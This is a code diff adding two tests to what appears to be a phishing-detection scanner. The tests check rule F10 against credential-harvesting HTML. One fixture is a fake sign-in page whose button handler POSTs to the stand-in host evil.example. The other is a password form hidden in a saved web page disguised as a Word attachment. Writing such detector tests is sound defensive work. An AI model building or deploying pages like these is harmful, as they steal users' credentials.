@@ -116,6 +116,20 @@ def test_f10_pages_in_frames_and_in_xml() -> None:
     assert found_in("a.xml", b'<?xml version="1.0"?><feed><title>x</title></feed>') == []
 
 
+def test_f10_what_is_typed_into_no_form() -> None:
+    page = '<html>Password<div contenteditable></div><button onclick="{}">Sign in</button></html>'
+    assert heaviest("a.html", page.format("fetch('https://evil.example/',{method:'POST'})").encode(), "F10") == 3
+    assert heaviest("a.html", page.format("this.focus()").encode(), "F10") == 0
+
+
+def test_f10_a_saved_page_under_the_name_of_a_document() -> None:
+    head = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type="text/html"\r\n\r\n'
+    saved = head + b"--x\r\nContent-Type: text/html\r\n\r\n<html><form><input type=password></form></html>\r\n--x--\r\n"
+    raw = mail("look", part(saved, "application/msword", "a.doc"))
+    (inner,) = take_turn(raw, "mail/2").further
+    assert "F10" in {one.look for one in take_turn(raw, inner).findings}
+
+
 @pytest.mark.parametrize("form", ["picture", "signs"])
 def test_codes_that_stand_in_the_text_of_a_mail(form: str) -> None:
     import segno
